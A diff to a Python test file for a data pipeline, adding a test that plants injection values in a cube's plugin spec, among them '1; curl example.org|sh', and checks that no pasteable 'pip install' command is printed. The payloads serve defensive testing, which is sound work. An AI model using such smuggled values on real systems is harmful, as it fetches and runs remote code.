@@ -264,6 +264,24 @@ def test_a_strangers_cube_runs_nothing(name: str, canary: Path, tmp_path: Path) 
     assert not canary.exists()
 
 
+@pytest.mark.parametrize(
+    "change",
+    [{"version": "1; curl example.org|sh"}, {"version": "1 -r x"}, {"distribution": "--pre"}],
+)
+def test_no_command_of_a_stranger_is_printed_to_be_pasted(
+    change: dict[str, str], tmp_path: Path
+) -> None:
+    cube = tmp_path / "cube.zarr"
+    create_cube(cube, recorded_spec())
+    document = cube / "zarr.json"
+    root = json.loads(document.read_text())
+    root["attributes"]["spec"]["plugins"][0] |= change
+    document.write_text(json.dumps(root))
+    refused = imwk("retry", cube)
+    assert_refused(refused)
+    assert "pip install" not in refused.output
+
+
 def test_only_plug_ins_that_a_spec_names_are_loaded(package: Path, tmp_path: Path) -> None:
     code = (
         "import sys; from pipeline.spec import read_spec; from pipeline.plugins.registry import "
